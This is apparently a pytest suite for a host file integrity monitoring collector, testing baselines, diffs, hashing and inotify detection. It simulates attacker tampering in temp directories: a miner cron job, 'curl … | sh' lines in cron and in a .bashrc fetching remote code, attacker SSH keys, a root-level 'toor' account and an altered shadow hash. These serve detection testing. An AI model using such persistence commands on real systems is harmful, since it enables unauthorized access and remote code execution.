"""File integrity: baseline, diff, incremental hashing, symlink loops, inotify latency."""

from __future__ import annotations

import os
import threading
import time
from dataclasses import replace
from pathlib import Path

from prometheus_client import CollectorRegistry

from agent.collectors.host.fim.baseline import (
    WatchList,
    _hash,
    diff,
    file_state,
    load_baseline,
    scan,
)
from agent.collectors.host.fim.collector import FimCollector
from agent.events import Event
from agent.metrics import AgentMetrics


def _root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "etc" / "passwd").write_text(
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    (root / "etc" / "shadow").write_text("root:*:1::::::\n")
    (root / "etc" / "cron.d" / "backup").write_text("0 3 * * * root /usr/local/bin/backup\n")
    (root / "home" / "alice").mkdir(parents=True)
    return root


def test_watch_list_includes_user_files_and_defaults(tmp_path: Path) -> None:
    root = _root(tmp_path)
    watch = WatchList.default(root, extra=["/opt/app/config.yml"], exclude=["*.swp"])
    assert "/home/alice/.ssh/authorized_keys" in watch.files
    assert "/root/.ssh/authorized_keys" in watch.files
    assert "/etc/cron.d" in watch.dirs and "/opt/app/config.yml" in watch.files
    assert watch.covers("/etc/cron.d/x") and not watch.covers("/etc/cron.d/.x.swp")
    assert not watch.covers("/etc/hostname")


def test_scan_diff_and_incremental_hash(tmp_path: Path) -> None:
    root = _root(tmp_path)
    watch = WatchList.default(root)
    first = scan(watch, {})
    assert first["/etc/passwd"].sha256 is not None
    assert first["/etc/cron.d"].type == "dir"
    (root / "etc" / "shadow").write_text("root:$6$evil:1::::::\n")
    os.chmod(root / "etc" / "passwd", 0o666)
    (root / "etc" / "cron.d" / "backup").unlink()
    (root / "etc" / "cron.d" / "miner").write_text("* * * * * root /tmp/xmrig\n")
    second = scan(watch, first)
    changes = {(c.path, c.action, c.changes) for c in diff(first, second)}
    assert ("/etc/shadow", "modified", ("content",)) in changes
    assert ("/etc/passwd", "attributes_changed", ("mode",)) in changes
    assert ("/etc/cron.d/backup", "deleted", ("content",)) in changes
    assert ("/etc/cron.d/miner", "created", ("content",)) in changes
    # unchanged files keep their recorded hash without being read again
    recorded = replace(second["/etc/passwd"], sha256="f" * 64)
    reused = file_state(str(root / "etc" / "passwd"), recorded)
    assert reused is not None and reused.sha256 == "f" * 64
    (root / "etc" / "passwd").write_text("changed\n")
    reread = file_state(str(root / "etc" / "passwd"), recorded)
    assert reread is not None and reread.sha256 != "f" * 64


def test_symlink_loops_fifos_and_large_files(tmp_path: Path) -> None:
    root = _root(tmp_path)
    cron = root / "etc" / "cron.d"
    (cron / "loop").symlink_to(cron)
    (cron / "self").symlink_to(cron / "self")
    os.mkfifo(cron / "pipe")
    (cron / "big").write_bytes(b"x" * 3_000_000)
    states = scan(WatchList.default(root), {}, max_hash_bytes=2_000_000)
    assert states["/etc/cron.d/loop"].type == "symlink"
    assert states["/etc/cron.d/loop"].link_target == str(cron)
    assert states["/etc/cron.d/self"].sha256 is None
    assert states["/etc/cron.d/pipe"].type == "other"
    assert states["/etc/cron.d/big"].sha256 is None and states["/etc/cron.d/big"].size == 3_000_000
    hashed = scan(WatchList.default(root), {})["/etc/cron.d/big"]
    assert hashed.sha256 is not None and len(hashed.sha256) == 64


class _Run:
    def __init__(self, collector: FimCollector) -> None:
        self.collector = collector
        self.events: list[Event] = []
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.thread = threading.Thread(target=collector.run, args=(self._pub, self.stop))

    def _pub(self, events: list[Event]) -> int:
        with self.lock:
            self.events.extend(events)
        return len(events)

    def __enter__(self) -> _Run:
        self.thread.start()
        assert self.collector.ready.wait(10)
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join(10)

    def wait(self, path: str, action: str, timeout: float = 2.0) -> Event | None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                for e in self.events:
                    if e.get("file.path") == path and e.get("event.action") == action:
                        return e
            time.sleep(0.02)
        return None


def test_inotify_events_within_two_seconds(tmp_path: Path) -> None:
    root = _root(tmp_path)
    metrics = AgentMetrics(CollectorRegistry())
    baseline = tmp_path / "state" / "fim-baseline.json"
    collector = FimCollector(WatchList.default(root), baseline, metrics, host_name="h1")
    with _Run(collector) as run:
        assert run.events == []  # no baseline yet: built silently
        started = time.monotonic()
        with open(root / "etc" / "passwd", "a") as fh:
            fh.write("toor:x:0:0::/root:/bin/bash\n")
        event = run.wait("/etc/passwd", "modified")
        assert event is not None and time.monotonic() - started < 2.0
        assert event.get("file.hash.sha256") != event.get("vedette.fim.previous.sha256")
        assert event.get("vedette.fim.source") == "inotify" and event.get("host.name") == "h1"
        assert event.logsource == ("linux", "file_event", None)
        # a key dropped into a .ssh directory that did not exist
        ssh = root / "home" / "alice" / ".ssh"
        ssh.mkdir()
        (ssh / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
        created = run.wait("/home/alice/.ssh/authorized_keys", "created")
        assert created is not None and created.get("file.mode") is not None
        # editor style: write a temp file and rename it over the target
        tmp = root / "etc" / "cron.d" / ".backup.tmp"
        tmp.write_text("* * * * * root curl x | sh\n")
        os.replace(tmp, root / "etc" / "cron.d" / "backup")
        assert run.wait("/etc/cron.d/backup", "modified") is not None
        os.chmod(root / "etc" / "shadow", 0o666)
        changed = run.wait("/etc/shadow", "attributes_changed")
        assert changed is not None
        assert (changed.get("vedette.fim.previous.mode"), changed.get("file.mode")) == (
            "0644", "0666")
        assert changed.get("vedette.fim.changes") == ["mode"]
    assert metrics.registry.get_sample_value(
        "vedette_fim_changes_total", {"action": "modified"}) >= 2
    saved = load_baseline(baseline)
    assert saved is not None and "/home/alice/.ssh/authorized_keys" in saved


def test_changes_while_down_are_reported_on_start(tmp_path: Path) -> None:
    root = _root(tmp_path)
    baseline = tmp_path / "fim.json"
    FimCollector(WatchList.default(root), baseline).start()
    (root / "etc" / "shadow").write_text("changed\n")
    events = FimCollector(WatchList.default(root), baseline).start()
    assert [(e.get("file.path"), e.get("event.action"), e.get("vedette.fim.source"))
            for e in events] == [("/etc/shadow", "modified", "startup")]


def test_rescan_without_inotify_sees_changes(tmp_path: Path) -> None:
    root = _root(tmp_path)
    collector = FimCollector(WatchList.default(root), tmp_path / "b.json", use_inotify=False)
    collector.start()
    (root / "etc" / "cron.d" / "new").write_text("x\n")
    assert [e.get("file.path") for e in collector.rescan()] == ["/etc/cron.d/new"]
    assert collector.rescan() == []


def test_file_replaced_while_hashing_is_counted_not_hashed(tmp_path: Path) -> None:
    target = tmp_path / "shadow"
    target.write_text("x\n")
    state = file_state(str(target))
    assert state is not None
    stale = replace(state, inode=state.inode + 1)  # the path now names another file
    problems: list[str] = []
    assert _hash(str(target), stale, lambda s, r: problems.append(r)) is None
    assert problems == ["changed_while_hashing"]
    assert _hash(str(target), state, lambda s, r: problems.append(r)) == state.sha256


def test_corrupt_baseline_is_counted_and_rebuilt(tmp_path: Path) -> None:
    root = _root(tmp_path)
    baseline = tmp_path / "fim.json"
    baseline.write_text("{not json")
    metrics = AgentMetrics(CollectorRegistry())
    assert FimCollector(WatchList.default(root), baseline, metrics).start() == []
    assert metrics.registry.get_sample_value(
        "vedette_input_errors_total", {"source": "fim", "reason": "bad_baseline"}) == 1
    assert load_baseline(baseline) is not None


def test_home_of_a_user_added_after_start_is_watched(tmp_path: Path) -> None:
    root = _root(tmp_path)
    collector = FimCollector(WatchList.default(root), tmp_path / "state" / "b.json")
    with _Run(collector) as run:
        home = root / "home" / "mallory"
        home.mkdir()
        (home / ".bashrc").write_text("# skeleton\n")  # useradd -m copies /etc/skel first
        with open(root / "etc" / "passwd", "a") as fh:
            fh.write("mallory:x:1001:1001::/home/mallory:/bin/bash\n")
        assert run.wait("/etc/passwd", "modified") is not None
        time.sleep(0.5)
        with open(home / ".bashrc", "a") as fh:  # persistence in the new user's rc file
            fh.write("curl -s http://198.18.0.1/x | sh\n")
        assert run.wait("/home/mallory/.bashrc", "modified") is not None
        (home / ".ssh").mkdir()
        (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
        assert run.wait("/home/mallory/.ssh/authorized_keys", "created") is not None
        assert not [e for e in run.events if e.get("file.path") == "/home/mallory/.bashrc"
                    and e.get("event.action") == "created"]  # the skeleton is the baseline
